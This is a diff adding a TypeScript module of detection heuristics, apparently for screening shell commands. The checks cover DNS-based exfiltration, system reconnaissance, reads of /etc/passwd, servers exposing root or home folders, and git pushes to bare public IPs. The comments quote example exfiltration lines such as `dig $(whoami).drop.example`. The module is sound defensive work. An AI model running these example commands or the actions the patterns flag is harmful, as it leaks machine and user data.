@@ -1,0 +1,96 @@
+import { isExfiltrationHost } from '../network/exfiltration-hosts.ts'
+import type { Command } from './command.ts'
+
+const nameTools: ReadonlySet<string> = new Set([
+  'dig',
+  'nslookup',
+  'host',
+  'drill',
+  'kdig',
+  'ping',
+  'ping6',
+  'getent',
+  'resolvectl',
+])
+
+/** `dig $(whoami).drop.example`: what a command printed becomes a label of a name that someone else resolves. */
+export function leaksByName({ name, words }: Command): boolean {
+  if (!nameTools.has(name)) return false
+  return words.some(
+    ({ text, substitutions }) =>
+      (substitutions.length > 0 || /\uE000.{0,80}\uE000/.test(text)) && endsInDomain(text),
+  )
+}
+
+/** After what is only known at run time comes a domain of two labels or more. */
+function endsInDomain(text: string): boolean {
+  const labels = text
+    .slice(text.lastIndexOf('\uE000') + 1, 400)
+    .replace(/\.$/, '')
+    .split('.')
+  return labels.length > 2 && labels.every((label) => /^[a-z0-9-]{0,63}$/i.test(label))
+}
+
+const facts: ReadonlySet<string> = new Set([
+  'whoami',
+  'id',
+  'uname',
+  'hostname',
+  'ifconfig',
+  'ps',
+  'netstat',
+  'ss',
+  'history',
+  'last',
+  'w',
+  'lsof',
+  'arp',
+])
+
+/** Does the command tell about the machine and its users? */
+export function tellsAboutMachine({ name, args }: Command): boolean {
+  if (facts.has(name)) return true
+  return (
+    name === 'cat' &&
+    args.some((arg) =>
+      /^\/etc\/(?:passwd|group|hosts|resolv\.conf|crontab|issue|os-release)$|^\/proc\/(?:version|cpuinfo|self\/)/.test(
+        arg,
+      ),
+    )
+  )
+}
+
+/** A host that says nothing about whose it is: a bare public address, or a place that takes in anything. */
+export function isNamelessHost(text: string): boolean {
+  const host =
+    /^(?:[a-z]{2,6}:\/\/)?(?:[^@/\s]{1,80}@)?(\d{1,3}(?:\.\d{1,3}){3})(?:[:/?#]|$)/i.exec(
+      text.slice(0, 300),
+    )?.[1]
+  if (host === undefined) return isExfiltrationHost(text)
+  return !/^(?:127\.|10\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|169\.254\.|0\.)/.test(host)
+}
+
+/** A web server over a folder that holds the system or a whole home. */
+export function servesWide({ name, args }: Command): boolean {
+  const at = args.findIndex((arg) => /^(?:-h|-d|--directory|-t|--dir|--root)$/.test(arg))
+  const folder = args[at + 1] ?? ''
+  if (at < 0 || !/^(?:\/|~|\/(?:etc|root|home|var|Users)(?:\/[\w.-]{1,60})?)\/?$/.test(folder))
+    return false
+  return (
+    name === 'httpd' ||
+    (name === 'python' && args.includes('http.server')) ||
+    (name === 'php' && args.includes('-S')) ||
+    /^(?:http-server|serve|caddy|twistd|darkhttpd|busybox)$/.test(name)
+  )
+}
+
+/** `git remote add x https://203.0.113.9/r.git`, `git push http://…`: the history goes to a machine without a name. */
+export function pushesToStranger({ name, args }: Command): boolean {
+  if (name !== 'git') return false
+  const verb = args.find((arg) => !arg.startsWith('-'))
+  return (
+    (verb === 'push' ||
+      (verb === 'remote' && /^(?:add|set-url)$/.test(args[args.indexOf('remote') + 1] ?? ''))) &&
+    args.some(isNamelessHost)
+  )
+}
